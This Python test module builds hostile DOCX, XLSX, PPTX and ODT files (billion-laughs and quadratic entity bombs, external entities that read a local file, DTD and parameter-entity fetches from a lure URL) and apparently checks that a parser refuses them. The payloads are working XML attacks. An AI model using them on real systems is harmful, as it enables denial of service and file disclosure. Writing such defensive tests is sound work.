"""XML whose declarations blow it up or reach out, in each format that is made of XML."""

from __future__ import annotations

from collections.abc import Callable
from zlib import crc32

from hostile.hostile_file import SENTENCE, HostileFile, Lure, refused
from hostile.office_writer import DRAWING, SHEET, SLIDES, WORD, docx, pptx, xlsx
from hostile.zip_writer import Entry, entry, zip_of_entries

_UNSAFE = refused("损坏", "不安全", "外部", "实体", "声明")


def entity_bombs(lure: Lure) -> list[HostileFile]:
    """Return the bombs and the references to outside."""
    return [
        HostileFile("xml/billion laughs.docx", lambda: _docx(_laughs()), _UNSAFE),
        HostileFile("xml/billion laughs.xlsx", lambda: _xlsx(_laughs()), _UNSAFE),
        HostileFile("xml/billion laughs.pptx", lambda: _pptx(_laughs()), _UNSAFE),
        HostileFile("xml/billion laughs.odt", lambda: _odt(_laughs()), _UNSAFE),
        HostileFile(
            "xml/billion laughs in utf-16.docx", lambda: _docx(_laughs(), "utf-16"), _UNSAFE
        ),
        HostileFile("xml/billion laughs in shared strings.xlsx", _shared_laughs, _UNSAFE),
        HostileFile("xml/billion laughs in relations.docx", _related_laughs, _UNSAFE),
        HostileFile("xml/quadratic.docx", lambda: _docx(_quadratic()), _UNSAFE),
        HostileFile("xml/reads a file.docx", lambda: _docx(_external(lure.file)), _UNSAFE),
        HostileFile("xml/reads a file.xlsx", lambda: _xlsx(_external(lure.file)), _UNSAFE),
        HostileFile("xml/reads a file.pptx", lambda: _pptx(_external(lure.file)), _UNSAFE),
        HostileFile("xml/reads a file.odt", lambda: _odt(_external(lure.file)), _UNSAFE),
        HostileFile("xml/fetches its dtd.docx", lambda: _docx(_dtd(lure)), _UNSAFE),
        HostileFile("xml/fetches a parameter.docx", lambda: _docx(_parameter(lure)), _UNSAFE),
    ]


# Each returns (the declarations, what stands in the text).
Blast = tuple[str, str]


def _laughs() -> Blast:
    rows = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE r [<!ENTITY e0 "哈哈">{rows}]>', "&e9;"


def _quadratic() -> Blast:
    return f'<!DOCTYPE r [<!ENTITY e "{"哈" * 60_000}">]>', "&e;" * 60_000


def _external(url: str) -> Blast:
    return f'<!DOCTYPE r [<!ENTITY e SYSTEM "{url}">]>', "&e;"


def _dtd(lure: Lure) -> Blast:
    return f'<!DOCTYPE r SYSTEM "{lure.url}/office.dtd">', SENTENCE


def _parameter(lure: Lure) -> Blast:
    return f'<!DOCTYPE r [<!ENTITY % e SYSTEM "{lure.url}/parameter"> %e;]>', SENTENCE


def _declared(blast: Blast, root: Callable[[str], str], encoding: str = "utf-8") -> bytes:
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return (head + blast[0] + root(blast[1])).encode(encoding)


def _document(text: str) -> str:
    return (
        f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body>'
        "</w:document>"
    )


def _docx(blast: Blast, encoding: str = "utf-8") -> bytes:
    return docx(parts={"word/document.xml": _declared(blast, _document, encoding)})


def _xlsx(blast: Blast) -> bytes:
    def sheet(text: str) -> str:
        cell = f'<c r="A1" t="inlineStr"><is><t>{text}</t></is></c>'
        rows = f'<sheetData><row r="1">{cell}</row></sheetData>'
        return f'<worksheet xmlns="{SHEET}">{rows}</worksheet>'

    return xlsx(parts={"xl/worksheets/sheet1.xml": _declared(blast, sheet)})


def _pptx(blast: Blast) -> bytes:
    def slide(text: str) -> str:
        shape = f"<p:sp><p:txBody><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"
        tree = f"<p:cSld><p:spTree>{shape}</p:spTree></p:cSld>"
        return f'<p:sld xmlns:p="{SLIDES}" xmlns:a="{DRAWING}">{tree}</p:sld>'

    return pptx(parts={"ppt/slides/slide1.xml": _declared(blast, slide)})


def _odt(blast: Blast) -> bytes:
    space = "urn:oasis:names:tc:opendocument:xmlns:"

    def content(text: str) -> str:
        return (
            f'<o:document-content xmlns:o="{space}office:1.0" xmlns:t="{space}text:1.0">'
            f"<o:body><o:text><t:p>{text}</t:p></o:text></o:body></o:document-content>"
        )

    kind = "application/vnd.oasis.opendocument.text"
    listed = f'<f:file-entry f:full-path="/" f:media-type="{kind}"/>'
    listed += '<f:file-entry f:full-path="content.xml" f:media-type="text/xml"/>'
    manifest = f'<f:manifest xmlns:f="{space}manifest:1.0">{listed}</f:manifest>'
    content_xml = _declared(blast, content)
    named = Entry(b"mimetype", kind.encode(), len(kind), method=0, crc=crc32(kind.encode()))
    parts = (("META-INF/manifest.xml", manifest), ("content.xml", content_xml))
    return zip_of_entries([named, *(entry(name, part) for name, part in parts)])


def _shared_laughs() -> bytes:
    strings = _declared(
        _laughs(), lambda text: f'<sst xmlns="{SHEET}"><si><t>{text}</t></si></sst>'
    )
    row = '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'
    return xlsx(row, {"xl/sharedStrings.xml": strings})


def _related_laughs() -> bytes:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    rows = _declared(
        _laughs(), lambda text: f'<Relationships xmlns="{space}">{text}</Relationships>'
    )
    return docx(parts={"word/_rels/document.xml.rels": rows})
